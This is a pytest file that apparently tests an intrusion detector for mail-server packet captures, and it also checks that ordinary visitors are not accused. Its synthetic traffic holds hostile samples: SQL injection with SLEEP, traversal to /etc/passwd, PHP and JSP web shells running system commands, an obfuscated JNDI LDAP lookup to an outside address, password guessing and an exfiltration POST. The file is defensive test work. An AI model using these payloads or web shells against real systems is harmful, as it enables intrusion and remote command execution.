"""Break-ins from packets to the finding, and visitors who look alike and are not accused."""

import pytest

import mailscope
from mailscope.investigation.answer import plain
from mailscope.investigation.intrusions import intrusion_findings
from mailscope.investigation.scene import scene_of
from tests.fixtures.wire import START_US, Conversation, merged, write

pytestmark = pytest.mark.long

ATTACKER, VISITOR, SERVER = "198.51.100.7", "192.0.2.33", "10.0.0.80"


class Wire:
    """HTTP conversations and mailboxes, one connection a request, half a second apart."""

    def __init__(self):
        self.talks, self.now, self.port = [], START_US, 20000

    def talk(self, client, port, wait_us=500_000):
        self.now, self.port = self.now + wait_us, self.port + 1
        made = Conversation(f"{client}:{self.port}", f"{SERVER}:{port}", start_us=self.now)
        self.talks.append(made)
        return made

    def web(self, client, request, body=b"ok", status="200 OK", *, head="", form=None, agent="Mozilla/5.0", slow=0):
        talk = self.talk(client, 80)
        said = [request + " HTTP/1.1", "Host: mail.own.example", f"User-Agent: {agent}"]
        sent = (form or "").encode()
        if form is not None:
            said += ["Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(sent)}"]
        talk.send(True, "\r\n".join(said).encode() + b"\r\n\r\n" + sent).wait(slow * 1_000_000)
        answer = f"HTTP/1.1 {status}\r\nServer: Apache/2.4.1\r\nContent-Type: text/html\r\n{head}"
        talk.send(False, f"{answer}Content-Length: {len(body)}\r\n\r\n".encode() + body).fin()
        self.now += slow * 1_000_000

    def upload(self, client, name, content):
        talk = self.talk(client, 80)
        body = (
            f'--b\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\n'
            f"Content-Type: image/png\r\n\r\n{content}\r\n--b--\r\n"
        ).encode()
        head = "POST /send HTTP/1.1\r\nHost: mail.own.example\r\nContent-Type: multipart/form-data; boundary=b\r\n"
        talk.send(True, f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)
        talk.send(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok").fin()

    def imap(self, client, user, *, let_in):
        talk = self.talk(client, 143)
        verdict = "OK done" if let_in else "NO failed"
        talk.say(f"S: * OK ready\nC: a LOGIN {user} hush\nS: a {verdict}\nC: b LOGOUT\nS: * BYE\nS: b OK").fin()

    def findings(self, folder):
        path = write(folder / "a.pcap", merged(*(talk.packets for talk in self.talks)))
        tables = mailscope.read([path])
        return intrusion_findings(scene_of({name: tables.to_ibis(name) for name in tables}, ["10.0.0.0/8"]))


@pytest.fixture
def wire():
    return Wire()


def outgoing(wire, to, body):
    """The server itself posts something to a host outside."""
    wire.now, wire.port = wire.now + 500_000, wire.port + 1
    talk = Conversation(f"{SERVER}:{wire.port}", f"{to}:80", start_us=wire.now)
    talk.send(True, f"POST /up HTTP/1.1\r\nHost: {to}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
    return talk.send(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n").fin()


def phases(finding):
    return {phase["phase"]: phase for phase in finding.details["phases"]}


def cwes(finding):
    return [weakness["cwe"] for weakness in finding.details["answers"]["weaknesses"]]


def test_a_delay_that_was_asked_for_shows_the_injection(wire, tmp_path):
    for _ in range(4):
        wire.web(VISITOR, "GET /item?id=7", b"x" * 300)
    for seconds in (3, 5):
        wire.web(ATTACKER, f"GET /item?id=7%20AND%20SLEEP({seconds})", b"x" * 300, slow=seconds)
    wire.web(ATTACKER, "GET /item?id=7%20AND%201=2", b"x" * 300)
    (finding,) = wire.findings(tmp_path)
    assert finding.roles == {"attacker": [ATTACKER], "target": [SERVER]}
    assert phases(finding)["sql-injection"]["effects"][0] == "delay"
    assert cwes(finding) == ["CWE-89"]
    assert finding.evidence[0].first_packet < finding.evidence[0].last_packet


def test_a_file_that_came_back_shows_the_traversal(wire, tmp_path):
    wire.web(VISITOR, "GET /show?page=news")
    wire.web(ATTACKER, "GET /show?page=../../../../etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n")
    (finding,) = wire.findings(tmp_path)
    assert phases(finding)["path-traversal"]["worked"] == "yes"
    assert cwes(finding) == ["CWE-22"]


def test_a_shell_in_its_own_encryption_is_told_by_its_upload(wire, tmp_path):
    wire.upload(ATTACKER, "logo.jsp", "<%@ page %><% x %>")
    for _ in range(3):
        wire.web(ATTACKER, "POST /img/logo.jsp", b"9f8a7b6c5d", form="Zm9vYmFyYmF6cXV4Zm9vYmFy")
    (finding,) = wire.findings(tmp_path)
    assert phases(finding)["file-upload"]["worked"] == "yes"
    assert phases(finding)["web-shell"]["shell"] == ["/img/logo.jsp"]
    assert cwes(finding) == ["CWE-434"]


def test_a_shell_that_was_there_before_leaves_its_weakness_open(wire, tmp_path):
    for command in ("whoami", "ls -la /var/www", "cat /etc/hosts"):
        wire.web(ATTACKER, f"GET /tmp/x.php?run={command.replace(' ', '%20')}", b"www-data")
    (finding,) = wire.findings(tmp_path)
    assert phases(finding)["web-shell"]["commands"][0]["command"] == "whoami"
    assert cwes(finding) == ["CWE-506"]


def test_commands_in_a_header_of_its_own_are_read(wire, tmp_path):
    wire.upload(ATTACKER, "logo.php", "GIF89a<?php echo shell_exec($_SERVER['HTTP_X_RUN']); ?>")
    for command in ("id", "cat /etc/hosts"):
        wire.web(ATTACKER, f"GET /img/logo.php HTTP/1.1\r\nX-Run: {command}\r\nX-Was:", b"uid=33(www-data)")
    (finding,) = wire.findings(tmp_path)
    assert [one["command"] for one in phases(finding)["web-shell"]["commands"]] == ["id", "cat /etc/hosts"]


def test_guessing_at_mailboxes_that_opened_one_is_a_break_in(wire, tmp_path):
    for number in range(14):
        wire.imap(ATTACKER, f"user{number % 7}", let_in=False)
    wire.imap(ATTACKER, "eve", let_in=True)
    (finding,) = wire.findings(tmp_path)
    slug = next(name for name in phases(finding) if name.startswith("password"))
    assert phases(finding)[slug]["entered"] == ["eve"]
    assert cwes(finding) == ["CWE-521"]


def test_an_attack_without_effect_says_so_and_shows_no_weakness(wire, tmp_path):
    for number in range(6):
        wire.web(ATTACKER, f"GET /a?q={number}%27%20OR%20%27a%27=%27a", b"no", "403 Forbidden")
    (finding,) = wire.findings(tmp_path)
    assert finding.summary.key == "intrusion.tried"
    assert finding.details["answers"]["not_shown"] == ["weaknesses"]
    assert finding.confidence < 0.7


def test_one_lookup_by_jndi_in_a_header_is_an_attack(wire, tmp_path):
    for number in range(20):
        wire.web(VISITOR, f"GET /page{number}", agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
    wire.web(ATTACKER, "GET /", agent="${${lower:j}ndi:${lower:l}dap://198.51.100.7/x}")
    (finding,) = wire.findings(tmp_path)
    assert finding.roles["attacker"] == [ATTACKER]
    assert phases(finding)["expression-injection"]["worked"] != "yes"


def test_ordinary_visitors_are_not_accused(wire, tmp_path):
    for number in range(30):
        client = f"192.0.2.{number}"
        wire.web(client, "GET /login")
        wire.web(client, "POST /login", b"", "302 Found", head="Location: /inbox\r\n", form=f"user=u{number}&pass=p")
        wire.web(client, "GET /search?q=O%27Neill%20%26%20sons%3B%20select%20one")
        wire.web(client, "POST /compose", form="body=%3Cp%3EHello%3C%2Fp%3E&to=eve%40own.example")
    assert wire.findings(tmp_path) == []


def test_somebody_who_forgot_the_password_is_not_accused(wire, tmp_path):
    for number in range(5):
        wire.web(VISITOR, "POST /login", b"wrong" * 20, form=f"user=eve&pass={number}")
    wire.web(VISITOR, "POST /login", b"", "302 Found", head="Location: /inbox\r\n", form="user=eve&pass=right")
    assert wire.findings(tmp_path) == []


def test_one_odd_value_accuses_nobody(wire, tmp_path):
    for number in range(60):
        wire.web(VISITOR, f"GET /search?q=word{number}")
    wire.web(VISITOR, "GET /search?q=1%27%20OR%20%27a%27=%27a")
    assert wire.findings(tmp_path) == []


def test_the_finding_is_plain_json_and_holds_no_password(wire, tmp_path):
    for number in range(20):
        form = f"user=eve&pass=Secret{number}"
        wire.web(ATTACKER, "POST /login", b"wrong" * 20, form=form)
    wire.web(ATTACKER, "POST /login", b"", "302 Found", head="Location: /inbox\r\n", form="user=eve&pass=Hush99")
    wire.web(ATTACKER, "GET /x.php?c=mysql%20-u%20root%20-pHush99%20mail", b"tables")
    wire.web(ATTACKER, "GET /x.php?c=ls%20-la%20/root", b"drwx")
    (finding,) = wire.findings(tmp_path)
    text = str(plain(finding.details | {"facts": [str(fact.what) for fact in finding.facts]}))
    assert "Secret" not in text
    assert "Hush99" not in text
    assert phases(finding)["password-guessing"]["entered"] == ["eve"]


def test_a_guessed_account_opened_from_another_address_belongs_to_the_break_in(wire, tmp_path):
    for number in range(14):
        wire.imap(ATTACKER, f"user{number % 7}", let_in=False)
    wire.imap(ATTACKER, "eve", let_in=True)
    wire.imap("10.0.0.9", "eve", let_in=True)
    wire.imap("203.0.113.50", "eve@own.example", let_in=True)
    wire.imap("203.0.113.60", "adam", let_in=True)
    (finding,) = wire.findings(tmp_path)
    assert finding.roles["attacker"] == [ATTACKER, "203.0.113.50"]
    (used,) = [phase for phase in finding.details["phases"] if phase["source"] == "203.0.113.50"]
    assert (used["phase"], used["stolen"][0]["how"]) == ("account-use", "guessed")


def test_a_program_put_on_the_site_from_inside_is_how_a_site_is_kept(wire, tmp_path):
    wire.upload("10.0.0.6", "plugin.php", "<?php function menu() {} ?>")
    wire.web("10.0.0.6", "GET /plugins/plugin.php?page=settings", b"<html>settings</html>")
    assert wire.findings(tmp_path) == []


def test_a_program_put_from_inside_that_is_given_commands_is_a_shell(wire, tmp_path):
    wire.upload("10.0.0.6", "plugin.php", "<?php system($_GET['x']) ?>")
    for command in ("id", "cat%20/etc/passwd"):
        wire.web("10.0.0.6", f"GET /plugins/plugin.php?x={command}", b"uid=33(www-data)")
    (finding,) = wire.findings(tmp_path)
    assert finding.subject == "10.0.0.6"


def test_a_file_put_where_it_runs_is_an_upload_and_a_shell(wire, tmp_path):
    talk = wire.talk(ATTACKER, 80)
    talk.send(True, b"PUT /files/s.jsp HTTP/1.1\r\nHost: x\r\nContent-Length: 13\r\n\r\n<%@ page %>..")
    talk.send(False, b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n").fin()
    for command in ("whoami", "cat%20/etc/passwd"):
        wire.web(ATTACKER, f"GET /files/s.jsp?c={command}", b"tomcat")
    (finding,) = wire.findings(tmp_path)
    assert phases(finding)["file-upload"]["worked"] == "yes"
    assert cwes(finding) == ["CWE-434"]


@pytest.mark.parametrize(("users", "wait_us", "accused"), [(1, 200_000, 1), (6, 4_000_000, 1), (1, 60_000_000, 0)])
def test_guessing_at_mailboxes_without_success_is_told_when_no_mail_program_does_it(
    wire, tmp_path, users, wait_us, accused
):
    for number in range(36):
        wire.now += wait_us - 500_000
        wire.imap(ATTACKER, f"user{number % users}", let_in=False)
    found = wire.findings(tmp_path)
    assert len(found) == accused
    assert all(finding.confidence <= 0.5 for finding in found)


@pytest.mark.parametrize(("asked_before", "told"), [(False, 1), (True, 0)])
def test_what_a_server_sends_out_after_it_obeyed_is_told(wire, tmp_path, asked_before, told):
    drop = "203.0.113.77"
    if asked_before:
        wire.talks.append(outgoing(wire, drop, b"hello"))
    for command in ("whoami", "ls -la /var/www", "cat /etc/hosts"):
        wire.web(ATTACKER, f"GET /tmp/x.php?run={command.replace(' ', '%20')}", b"www-data")
    wire.talks.append(outgoing(wire, drop, b"z" * 20_000))
    (finding,) = wire.findings(tmp_path)
    sent = [phase for phase in finding.details["phases"] if phase["phase"] == "exfiltration"]
    assert len(sent) == told
    assert all((phase["target"], phase["bytes_sent"], phase["to"][0]) == (SERVER, 20_000, drop) for phase in sent)
    assert finding.roles["attacker"] == [ATTACKER]


@pytest.mark.parametrize("pause_us", [0, 3_600_000_000])
def test_addresses_that_guess_together_are_one_attack_with_who_used_the_account(wire, tmp_path, pause_us):
    for user in ("anna", "bert", "carl"):
        wire.now += pause_us
        for last in (1, 2, 3):
            wire.imap(f"203.0.113.{last}", user, let_in=False)
    wire.imap("203.0.113.2", "bert", let_in=True)
    wire.imap("203.0.113.9", "bert", let_in=True)
    (finding,) = wire.findings(tmp_path)
    assert finding.subject == "203.0.113.2"
    assert set(finding.roles["attacker"]) == {f"203.0.113.{last}" for last in (1, 2, 3, 9)}
    assert cwes(finding) == ["CWE-521"]
